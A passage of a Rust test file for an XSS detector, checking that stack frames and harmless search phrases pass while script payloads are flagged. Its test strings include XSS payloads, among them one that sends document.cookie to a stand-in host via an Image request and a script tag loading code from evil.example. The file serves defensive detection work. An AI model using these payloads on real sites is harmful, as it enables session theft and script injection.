        ("';new Image().src='//e.example/?'+document[\"cookie\"]//", "';new Image().src='//e.example/?'+document.cookie//"),
    ] {
        assert_eq!(conf(a), conf(b), "{a}");
        assert!(conf(a) > 0, "{a}");
    }
    for v in ["user?.name", "document[\"title\"]", "a ?. (b)", "what?.(maybe)", "document['readyState']"] {
        assert!(conf(v) < 60, "{v}: {}", conf(v));
    }
}

#[test]
fn a_stack_frame_is_not_a_sink_call() {
    // Frames written for this rule: V8 frames whose function is a sink's name.
    for v in [
        "    at eval (webpack-internal:///./node_modules/react-dom/cjs/react-dom.development.js:4747:186)",
        "TypeError: x\n    at setTimeout (https://cdn.example.com/npm/vue@3.4.21/dist/vue.global.js:6348:164)",
        "at Function.eval (app.js:10)",
        "Error: boom\n    at setTimeout (<anonymous>:12:34)",
    ] {
        assert!(conf(v) < 40, "{v:?}: {}", conf(v));
    }
    for v in ["eval(atob('YWxlcnQoMSk='))", "setTimeout(alert,1)", "\";eval(location.hash.slice(1))//", "x;alert(document.domain)"] {
        assert!(conf(v) >= 40, "{v:?}: {}", conf(v));
    }
    assert!(js::frame_argument("eval (a/b.js:1:2)", 0) && !js::frame_argument("eval(name)", 0) && !js::frame_argument("eval ('a.js:1')", 0));
    assert!(js::frame_argument("setTimeout (<anonymous>:3:9)", 0) && !js::frame_argument("setTimeout (<script>:3:9)", 0));
}

/// The detector's judgement of `s` as free text (a search box's value).
fn free(s: &str, level: Level) -> Option<Hit> {
    let input = Input { raw: s, decoded: s, field: FieldKind::QueryValue };
    XssDetector.check(&input, level).and_then(|h| XssDetector.in_free_text(&input, h, level))
}

#[test]
fn words_about_script_are_text_in_a_search() {
    for v in ["document.cookie httponly", "how to use eval() safely", "window.location.href redirect"] {
        assert!(free(v, Level::Strict).is_none(), "{v:?}: {:?}", free(v, Level::Strict));
    }
    for v in [
        "<script>alert(1)</script>",
        "x\" onfocus=alert(1) autofocus=\"",
        "x onmouseover=alert(1)",
        "javascript:alert(document.cookie)",
        "';alert(document.cookie)//",
    ] {
        assert!(free(v, Level::Balanced).is_some(), "{v:?}");
    }
    // What is typed so far of a script element or a script URL runs nothing.
    for v in ["<script", "<script>a", "<script>alert(1", "<script>alert(1)</scr", "javascript:void(0", "javascript:void("] {
        assert!(hit(v, Level::Balanced).is_some(), "{v:?}");
        assert!(free(v, Level::Strict).is_none(), "{v:?}: {:?}", free(v, Level::Strict));
    }
    // A script element with its end tag (at the value's end, the page's next blank or `>`
    // completes it) or a source runs; other markup after an unclosed script tag is judged.
    for v in [
        "<script>alert(1)</script >",
        "<script>alert(1)</script",
        "<SCRIPT SRC=//evil.example/x.js>",
        "<script>x<img src=x onerror=alert(1)>",
        "<script>alert(1)</script/",
    ] {
        assert!(free(v, Level::Balanced).is_some(), "{v:?}");
    }
}
